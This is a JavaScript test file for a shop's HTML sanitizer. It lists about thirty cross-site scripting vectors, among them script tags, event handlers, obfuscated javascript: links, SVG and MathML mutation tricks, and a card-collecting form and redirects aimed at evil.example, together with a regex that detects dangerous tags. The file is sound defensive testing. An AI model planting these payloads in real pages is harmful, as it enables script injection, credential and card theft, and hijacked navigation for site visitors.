import { describe, expect, it } from "vitest";
import { cleanHtml } from "#server/content/cleanHtml";
import { fc, runs } from "#test/properties";

describe("the store's own HTML", () => {
  it("keeps its text, lists, tables, links and pictures", () => {
    const html =
      '<h2>Care</h2><p>Wipe <strong>gently</strong>.<br />Then wait.</p><ol start="3"><li>Dry</li></ol>' +
      '<table><tbody><tr><th scope="row">Oak</th><td colspan="2">Oil</td></tr></tbody></table>' +
      '<a href="/faq">Questions</a> <a href="mailto:care@redclay.example">Write</a>' +
      '<img src="/pictures/content/door.webp" alt="A door" width="1200" height="750" loading="lazy" />';
    expect(cleanHtml(html)).toBe(html);
  });

  it.each([
    ["has no second page heading", "<h1>About</h1>", "<h2>About</h2>"],
    [
      "gives linked pages no reference to its own",
      '<a href="https://example.com" target="_blank" rel="opener">Out</a>',
      '<a href="https://example.com" rel="noopener noreferrer">Out</a>',
    ],
    [
      "marks a picture without a text as decorative",
      '<img src="/a.webp">',
      '<img src="/a.webp" alt="" loading="lazy" />',
    ],
  ])("%s", (_, html, clean) => {
    expect(cleanHtml(html)).toBe(clean);
  });

  it.each(["https://evil.example/a.gif", "//evil.example/a.gif", "data:image/svg+xml,<svg/>", ""])(
    "shows no picture from %j",
    (src) => expect(cleanHtml(`<p>x<img src="${src}" alt="y"></p>`)).toBe("<p>x</p>"),
  );
});

/** Ways to run a script or to load from elsewhere, each with what may be left of it. */
const vectors: [html: string, left: string][] = [
  ["<script>alert(1)</script>ok", "ok"],
  ["<scr<script>ipt>alert(1)</scr</script>ipt>", "ipt&gt;alert(1)ipt&gt;"],
  ["<SCRIPT SRC=//evil.example/x.js></SCRIPT>ok", "ok"],
  ['<p onclick="alert(1)">ok</p>', "<p>ok</p>"],
  ["<img src=x onerror=alert(1)>", '<img src="x" alt="" loading="lazy" />'],
  ["<svg onload=alert(1)><script>alert(1)</script></svg>ok", "ok"],
  ["<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>ok", "ok"],
  ["<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></table></math>ok", "ok"],
  ['<a href="javascript:alert(1)">ok</a>', "<a>ok</a>"],
  ['<a href="jav&#x0A;ascript:alert(1)">ok</a>', "<a>ok</a>"],
  ['<a href="&#106;avascript&colon;alert(1)">ok</a>', "<a>ok</a>"],
  ['<a href=" \u0001javascript:alert(1)">ok</a>', "<a>ok</a>"],
  ['<a href="vbscript:msgbox(1)">ok</a>', "<a>ok</a>"],
  ['<a href="data:text/html,<script>alert(1)</script>">ok</a>', "<a>ok</a>"],
  ['<a href="//evil.example">ok</a>', "<a>ok</a>"],
  ["<style>*{background:url(//evil.example)}</style>ok", "ok"],
  ['<p style="background:url(//evil.example)">ok</p>', "<p>ok</p>"],
  ['<p class="fixed inset-0" id="root" data-config="{}">ok</p>', "<p>ok</p>"],
  ['<iframe src="https://evil.example"></iframe>ok', "ok"],
  ['<iframe srcdoc="<script>alert(1)</script>"></iframe>ok', "ok"],
  ['<object data="x.swf"></object><embed src="x.swf">ok', "ok"],
  ['<form action="https://evil.example"><input name="card"><button>Pay</button></form>', "Pay"],
  ['<base href="https://evil.example/">ok', "ok"],
  ['<meta http-equiv="refresh" content="0;url=https://evil.example">ok', "ok"],
  ['<link rel="stylesheet" href="//evil.example/x.css">ok', "ok"],
  ["<template><script>alert(1)</script></template>ok", "ok"],
  ['<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>ok', "ok"],
  ['<video src="x" onerror="alert(1)"></video><audio src="x"></audio>ok', "ok"],
  ["<details open ontoggle=alert(1)>ok</details>", "ok"],
  ["<!--><img src=x onerror=alert(1)>-->ok", '<img src="x" alt="" loading="lazy" />--&gt;ok'],
];

describe("anything but text, lists, tables, links and pictures", () => {
  it.each(vectors)("%s leaves %s", (html, left) => {
    expect(cleanHtml(html)).toBe(left);
  });

  it("is separated when a script inside a tag name left nested paragraphs", () => {
    const once = cleanHtml("<p><scr<script>ipt>alert(1)</scr</script>ipt><p>");
    expect(once).toBe("<p>ipt&gt;alert(1)ipt&gt;</p><p></p><p></p>");
    expect(cleanHtml(once)).toBe(once);
  });

  it("does not come back when the result is parsed again", () => {
    const unit = fc.constantFrom(...vectors.map(([html]) => html), "<", ">", '"', "<p>", "</p>", "&lt;", "a");
    fc.assert(
      fc.property(fc.array(unit, { maxLength: 6 }), (units) => {
        const once = cleanHtml(units.join(""));
        expect(cleanHtml(once)).toBe(once);
        expect(once).not.toMatch(
          /<(script|style|svg|iframe|object|form|base|meta|link)|<[^>]*\son\w+=|javascript:/i,
        );
      }),
      { numRuns: runs(5000) },
    );
  });
});
